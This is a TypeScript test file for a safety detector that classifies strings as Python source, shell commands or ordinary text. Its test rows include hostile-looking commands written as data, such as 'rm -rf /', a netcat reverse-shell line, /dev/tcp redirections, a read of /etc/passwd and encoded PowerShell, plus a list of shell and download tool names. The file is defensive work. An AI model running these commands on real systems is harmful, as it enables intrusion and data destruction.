/**
 * Issue 16 (mutation testing of src/safety): codeLikeReason pattern by
 * pattern. Each row is a literal: a string and what it is, "python" (looks
 * like Python source), "shell" (looks like a shell command) or "-" (an
 * ordinary string). The rows sit on both sides of each pattern's edges (a
 * word boundary, a quantifier, an alternative, an anchor), which is what the
 * surviving Stryker mutants of src/safety/codeStrings.ts changed.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { codeLikeReason, pyRepr } from "../../src/safety/codeStrings.js";

type Kind = "python" | "shell" | "-";
const kindOf = (s: string): Kind => {
  const r = codeLikeReason(s);
  if (r === undefined) return "-";
  if (r.startsWith("string argument looks like Python source: ")) return "python";
  if (r.startsWith("string argument looks like a shell command: ")) return "shell";
  throw new Error(`unexpected reason ${r}`);
};
const check = (rows: [string, Kind][]) => {
  const wrong = rows.filter(([s, k]) => kindOf(s) !== k).map(([s, k]) => `${JSON.stringify(s)}: expected ${k}, got ${kindOf(s)}`);
  assert.deepEqual(wrong, []);
};

test("Python: os / posix / nt calls, each function name, word boundaries on both sides", () => {
  check([
    ["os.system", "python"], ["posix . popen", "python"], ["nt.popen2", "python"], ["os.popen3", "python"], ["os.popen4", "python"],
    ["os.execl", "python"], ["os.execvpe", "python"], ["os.execlp", "python"], ["os.spawnv", "python"], ["os.spawnlpe", "python"],
    ["os.startfile", "python"], ["os.fork", "python"], ["os.forkpty", "python"], ["os.kill", "python"], ["os.killpg", "python"],
    ["os.remove", "python"], ["os.unlink", "python"], ["os.rmdir", "python"], ["os.removedirs", "python"], ["os.putenv", "python"],
    ["os\t.\tsystem", "python"],
    ["cos.system", "-"], ["os.systemd", "-"], ["os.popen5", "-"], ["os.path.join", "-"], ["os.environ", "-"], ["photos.remove", "-"],
  ]);
});

test("Python: subprocess, the builtins that run code, open of a literal path", () => {
  check([
    ["subprocess", "python"], ["import_subprocess", "-"], ["subprocesses", "-"], ["the subprocess module", "python"],
    ["exec('x')", "python"], ["eval ('x')", "python"], ["execfile('x')", "python"], ["compile('x')", "python"], ["breakpoint()", "python"],
    ["getattr(x, 'y')", "python"], ["setattr(x, 'y', 1)", "python"], ["globals()", "python"], ["locals()", "python"], ["x=eval('1')", "python"],
    ["model.eval()", "-"], ["run_eval(x)", "-"], ["evaluate(x)", "-"], ["eval", "-"], ["locals", "-"],
    ["open('/etc/passwd')", "python"], ["open ( \"x\")", "python"], ["x=open('y')", "python"],
    ["open(path)", "-"], ["file.open('x')", "-"], ["reopen('x')", "-"], ["open", "-"],
  ]);
});

test("Python: import statements at the start of a line, not the word import in prose", () => {
  check([
    ["import os", "python"], ["import os.path", "python"], ["  import os", "python"], ["x = 1; import os", "python"], ["x = 1\nimport os", "python"],
    ["import os, sys", "python"], ["import os as o", "python"], ["import os;x", "python"], ["import _x", "python"], ["import os  ", "python"],
    ["important: import the data first", "-"], ["import the data", "-"], ["reimport os", "-"], ["import 3d", "-"], ["import", "-"], ["import os.", "python"],
    ["from os import system", "python"], ["x; from os.path import *", "python"], ["from m import (a, b)", "python"], ["from _m  import  x", "python"],
    ["data from os import x", "-"], ["from here import", "-"], ["from 3d import x", "-"], ["from os import -", "-"],
  ]);
});

test("Python: dunder attributes, the modules that spawn, connect or load code, the decoders that carry payloads", () => {
  check([
    ["__import__", "python"], ["__builtins__", "python"], ["__globals__", "python"], ["__subclasses__", "python"], ["__class__", "python"],
    ["__bases__", "python"], ["__mro__", "python"], ["__code__", "python"], ["__reduce__", "python"], ["__reduce_ex__", "python"],
    ["__getattribute__", "python"], ["__loader__", "python"], ["__spec__", "python"], ["__init__", "-"], ["__name__", "-"], ["__class", "-"],
    ["pty.spawn", "python"], ["pty . spawn", "python"], ["socket.socket", "python"], ["ctypes.CDLL", "python"], ["ctypes.cdll", "python"], ["ctypes.windll", "python"],
    ["runpy.run_module", "python"], ["runpy.run_path", "python"], ["mypty.spawn", "-"], ["pty.spawning", "-"], ["socket.socketpair", "-"], ["runpy.run_", "-"],
    ["base64.b64decode('x')", "python"], ["codecs.decode (x)", "python"], ["marshal.loads(x)", "python"], ["pickle.loads(x)", "python"], ["base64 . b64decode(", "python"],
    ["base64.b64decode", "-"], ["pickle.loads", "-"],
    // whitespace around each dot and before each parenthesis
    ["socket . socket", "python"], ["ctypes . CDLL", "python"], ["runpy . run_path", "python"], ["codecs . decode (x)", "python"],
    ["marshal . loads (x)", "python"], ["pickle . loads (x)", "python"], ["base64 . b64decode (x)", "python"], ["import  os", "python"], ["from  os import x", "python"],
  ]);
});

test("shell: /dev/tcp and /dev/udp redirections; binary data is not read as shell words", () => {
  check([
    ["exec 3<>/dev/tcp/10.0.0.1/80", "shell"], ["exec 3<>/dev/udp/10.0.0.1/53", "shell"], ["/dev/tcpdump/x", "-"], ["/dev/tty", "-"],
    ["\u0001/dev/tcp/1.2.3.4/1", "shell"], ["\u0001__import__", "python"],
    ["\u0000id; ls", "-"], ["\u0008id; ls", "-"], ["\u000eid; ls", "-"], ["\u001fid; ls", "-"], ["\tid; ls", "shell"], ["id; ls\r", "shell"],
  ]);
});

test("shell: a strong command word with the arguments that make it an attack", () => {
  check([
    ["rm -rf /", "shell"], ["rm -f x", "shell"], ["rm -r x", "shell"], ["rm -vr x", "shell"], ["sudo rm -rf /", "shell"], ["sudo  rm -r x", "shell"],
    ["rm x", "-"], ["rm -v x", "-"], ["rm", "-"], ["perform -rf x", "-"],
    ["curl http://x", "shell"], ["curl -s https://x", "shell"], ["wget ftp://x", "shell"], ["wget tftp://x", "shell"], ["curl localhost", "-"], ["curl", "-"], ["curlhttp://x", "-"],
    ["nc -e /bin/sh 1.2.3.4 4444", "shell"], ["ncat x", "shell"], ["netcat x", "shell"], ["socat x", "shell"], ["telnet x", "shell"], ["nc", "-"], ["nc ", "-"],
    ["sh -c id", "shell"], ["bash -i", "shell"], ["zsh -ic x", "shell"], ["dash -c x", "shell"], ["ksh -c x", "shell"], ["csh -c x", "shell"], ["tcsh -c x", "shell"],
    ["sh -x script", "-"], ["bash script.sh", "-"], ["sh -cx", "-"], ["fish -c x", "-"],
    ["python -c 'x' ", "shell"], ["python2 -c x", "shell"], ["python3.11 -c x", "shell"], ["perl -e x", "shell"], ["ruby -e x", "shell"], ["php -e x", "shell"],
    ["node -e x", "shell"], ["python -Bc x", "shell"], ["python -m x", "-"], ["python -c", "-"], ["php -r x", "-"],
    ["powershell -enc AAAA", "shell"], ["pwsh.exe -c x", "shell"], ["PowerShell x", "shell"], ["powershell", "-"],
    ["cmd.exe /c whoami", "shell"], ["CMD /k dir", "shell"], ["cmd /x y", "-"], ["cmd /c", "-"],
    ["chmod +x /tmp/y", "shell"], ["chmod +rwxs f", "shell"], ["chmod 777 f", "shell"], ["chmod 4755 f", "shell"], ["chmod u+x f", "-"], ["chmod 77 f", "-"], ["chmod 888 f", "-"], ["chmod", "-"],
    ["mkfifo /tmp/f", "shell"], ["mkfifo", "-"], ["certutil -urlcache", "shell"], ["CertUtil.exe -decode a b", "shell"], ["certutil", "-"],
    ["base64 -d", "shell"], ["base64 --decode x", "shell"], ["base64 -w0 x", "-"], ["base64 -dx", "-"],
    // each command word at the start of its piece only
    ["mycurl http://x", "-"], ["func x", "-"], ["fresh -c x", "-"], ["mypython -c x ", "-"], ["mypowershell x", "-"], ["xcmd /c y", "-"],
    ["xchmod +x f", "-"], ["xmkfifo f", "-"], ["xcertutil f", "-"], ["xbase64 -d", "-"], ["nc/tmp/ x", "-"], ["nc/usr/bin/ x", "-"],
  ]);
});

test("shell: commands joined by shell operators, each piece starting with a command word; the directory of the word does not hide it", () => {
  check([
    ["id; ls", "shell"], ["id && whoami", "shell"], ["id || ls", "shell"], ["ls | cat", "shell"], ["id\nls", "shell"], ["echo `id`", "shell"], ["echo $(id -u)", "shell"],
    ["ID; LS", "shell"], ["cat dog; bird", "-"], ["cat", "-"], ["a; b; c", "-"], ["echo; x", "-"], ["id;", "-"],
    ["/bin/sh -c id", "shell"], ["/usr/local/bin/curl http://x", "shell"], ["/usr/sbin/nc x", "shell"], ["./nc x", "shell"], ["/tmp/nc x", "shell"],
    ["/opt/conda/bin/python -c x", "shell"], ["/home/u/.local/bin/nc x", "shell"], ["(id -u); ls", "shell"], ["{id; ls; }", "shell"], ["'id -u'; ls", "shell"], ["\"nc x\"", "shell"],
    ["/opt/nc x", "-"], ["/bin", "-"],
    // a closing bracket or quote the split leaves on the command word does not hide it
    ["echo $(id)", "shell"], ["(id); ls", "shell"], ["'id'; ls", "shell"], ["\"id\"; ls", "shell"], ["(x); ls", "-"],
  ]);
});

test("the reason quotes the string as Python would, cut at 60 characters", () => {
  assert.equal(codeLikeReason("os.system('x')"), "string argument looks like Python source: 'os.system(\\'x\\')'");
  assert.equal(codeLikeReason("rm -rf /"), "string argument looks like a shell command: 'rm -rf /'");
  assert.equal(codeLikeReason("exec 3<>/dev/tcp/h/1"), "string argument looks like a shell command: 'exec 3<>/dev/tcp/h/1'");
  assert.equal(pyRepr("a\"b\n"), "'a\"b\\n'");
  assert.equal(pyRepr("x".repeat(60)), `'${"x".repeat(60)}'`);
  assert.equal(pyRepr("x".repeat(61)), `'${"x".repeat(60)}...'`);
  assert.equal(pyRepr("abcdef", 3), "'abc...'");
});

test("a string over 2^20 characters is checked on its first 2^20", () => {
  const pad = " ".repeat((1 << 20) - "os.system".length);
  assert.equal(kindOf(`${pad}os.system`), "python");
  assert.equal(kindOf(`${pad} os.system`), "-"); // one character more: the cut ends inside "system"
});

test("every command word of the shell rule, two pieces each: `w a; w b` is a shell command, a word off the list is not", () => {
  // The lists of codeStrings.ts STRONG_WORDS and WEAK_WORDS, written out.
  const words = [
    "sh", "bash", "zsh", "dash", "ksh", "csh", "tcsh", "fish", "curl", "wget", "nc", "ncat", "netcat", "socat",
    "telnet", "python", "python2", "python3", "perl", "ruby", "php", "node", "rm", "chmod", "chown", "mkfifo",
    "powershell", "pwsh", "cmd", "cmd.exe", "certutil", "base64", "nohup", "sudo", "su", "pkill", "killall",
    "crontab", "scp", "ssh", "sftp", "ftp", "tftp", "busybox", "xargs", "bitsadmin", "rundll32", "regsvr32", "mshta", "wmic",
    "echo", "cat", "ls", "id", "whoami", "uname", "touch", "mv", "cp", "kill", "env", "cd", "mkdir", "export", "eval", "exec", "sleep", "ping", "dd", "tar", "unzip", "head", "tail", "printf", "source",
  ];
  check(words.map((w): [string, Kind] => [`${w} a; ${w.toUpperCase()} b`, "shell"]));
  // bare, so that no command pattern of its own matches (nc, telnet, powershell, ...): only the list makes these two pieces a command
  check(words.map((w): [string, Kind] => [`${w}; ${w === "cat" ? "ls" : "cat"}`, "shell"]));
  check(["cats", "dog", "model", "train", "python4", "shh", "lsof"].map((w): [string, Kind] => [`${w} a; ${w} b`, "-"]));
});
